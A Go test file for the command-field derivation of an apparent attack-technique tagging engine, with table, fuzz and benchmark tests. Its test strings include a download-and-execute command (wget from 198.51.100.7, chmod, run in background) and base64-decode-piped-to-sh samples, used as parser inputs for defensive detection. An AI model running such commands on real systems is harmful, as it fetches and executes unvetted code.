package derive_test

import (
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"ttpworker/internal/match"
	"ttpworker/internal/tagger/derive"
)

// extended is a payload of a kind as the engine makes it.
func extended(tb testing.TB, kind, payload string) map[string]any {
	tb.Helper()
	members, err := match.NewScratch().AppendMembers(nil, []byte(payload))
	if err != nil {
		tb.Fatal(err)
	}
	out := derive.Of(kind)([]byte(strings.TrimSuffix(payload, "}")), members)
	var fields map[string]any
	if err := json.Unmarshal(append(out, '}'), &fields); err != nil {
		tb.Fatalf("%s}: %v", out, err)
	}
	return fields
}

func TestCommand(t *testing.T) {
	for _, tt := range []struct {
		name    string
		payload string
		want    map[string]any
	}{
		{name: "no command", payload: `{"uid":0}`, want: map[string]any{"uid": 0.0}},
		{name: "a command that is no text", payload: `{"command_text":7}`, want: map[string]any{"command_text": 7.0}},
		{name: "nothing in it", payload: `{"command_text":" "}`, want: map[string]any{"command_text": " "}},
		{
			name:    "escapes of JSON",
			payload: `{"command_text":"\u0069d\tÄ\\\"\u0001"}`,
			want: map[string]any{
				"command_text": "id\tÄ\\\"\x01", "segments": []any{"id Ä\"\x01"}, "argv0": []any{"id"},
			},
		},
		{
			name:    "bytes that are no UTF-8",
			payload: `{"command_text":"a $'\\xff\\xc3'Ä"}`,
			want:    map[string]any{"command_text": `a $'\xff\xc3'Ä`, "segments": []any{"a \uFFFD\uFFFDÄ"}, "argv0": []any{"a"}},
		},
		{
			name:    "fields of those names",
			payload: `{"segments":"x","decoded":["y"],"command_text":"id"}`,
			want:    map[string]any{"command_text": "id", "segments": []any{"id"}, "argv0": []any{"id"}, "decoded": []any{}},
		},
		{
			name:    "the last of two",
			payload: `{"command_text":"id","command_text":"ls"}`,
			want:    map[string]any{"command_text": "ls", "segments": []any{"ls"}, "argv0": []any{"ls"}},
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, extended(t, "command", tt.payload)); diff != "" {
				t.Errorf("%s (-want +got):\n%s", tt.payload, diff)
			}
		})
	}
}

func TestKindsWithoutDerivedFields(t *testing.T) {
	for _, kind := range []string{"", "email", "command/x"} {
		if derive.Of(kind) != nil {
			t.Errorf("Of(%q) derives something", kind)
		}
	}
}

// The examples of the documentation are what is derived, field by field.
func TestDocumentedExamples(t *testing.T) {
	doc, err := os.ReadFile("../../../docs/rules.md")
	if err != nil {
		t.Fatal(err)
	}
	_, rest, _ := strings.Cut(string(doc), "```derived\n")
	block, _, found := strings.Cut(rest, "```")
	if !found {
		t.Fatal("docs/rules.md has no block of derived fields")
	}
	for example := range strings.SplitSeq(strings.TrimSpace(block), "\n\n") {
		command, fields, _ := strings.Cut(example, "\n")
		payload, err := json.Marshal(map[string]string{"command_text": command})
		if err != nil {
			t.Fatal(err)
		}
		want := map[string]any{"command_text": command}
		for line := range strings.Lines(fields) {
			name, text, _ := strings.Cut(strings.TrimSpace(line), " ")
			list, _ := want[name].([]any)
			want[name] = append(list, strings.TrimSpace(text))
		}
		if diff := cmp.Diff(want, extended(t, "command", string(payload))); diff != "" {
			t.Errorf("%s (-documented +derived):\n%s", command, diff)
		}
	}
}

// FuzzCommand wants JSON of any command, and a segment of any that is not blank.
func FuzzCommand(f *testing.F) {
	for _, seed := range []string{"", " ", "id", "a $'\\xff' \u00c4", `"`, "printf '\\x01'|sh", "a\x00b"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, command string) {
		payload, err := json.Marshal(map[string]string{"command_text": command})
		if err != nil {
			t.Fatal(err)
		}
		list, _ := extended(t, "command", string(payload))["segments"].([]any)
		if blank := strings.TrimSpace(strings.ToValidUTF8(command, "\uFFFD")) == ""; (len(list) == 0) != blank {
			t.Errorf("%q has %d segments", command, len(list))
		}
	})
}

func BenchmarkCommand(b *testing.B) {
	payload := []byte(`{"command_text":"cd /tmp; wget -q \"http://198.51.100.7/a\" -O .x && chmod +x .x && ./.x > /dev/null 2>&1 &","uid":0}`)
	members, err := match.NewScratch().AppendMembers(nil, payload)
	if err != nil {
		b.Fatal(err)
	}
	f := derive.Of("command")
	var dst []byte
	b.ReportAllocs()
	for b.Loop() {
		dst = f(dst[:0], members)
	}
}

func TestNamesAreThoseOfTheFields(t *testing.T) {
	for kind, payload := range map[string]string{
		"command":      `{"command_text":"echo aWQ= | base64 -d | sh"}`,
		"http_request": `{"raw_url":"/a?b","body":"c","headers":{"Cookie":"d"}}`,
	} {
		var plain map[string]any
		if err := json.Unmarshal([]byte(payload), &plain); err != nil {
			t.Fatal(err)
		}
		got := []string{}
		for name := range extended(t, kind, payload) {
			if _, sent := plain[name]; !sent {
				got = append(got, name)
			}
		}
		want := slices.Sorted(slices.Values(derive.Names(kind)))
		if slices.Sort(got); !slices.Equal(got, want) {
			t.Errorf("%s derives %q, Names says %q", kind, got, want)
		}
	}
	if got := derive.Names("email"); got != nil {
		t.Errorf("Names of a kind without derived fields = %q", got)
	}
}
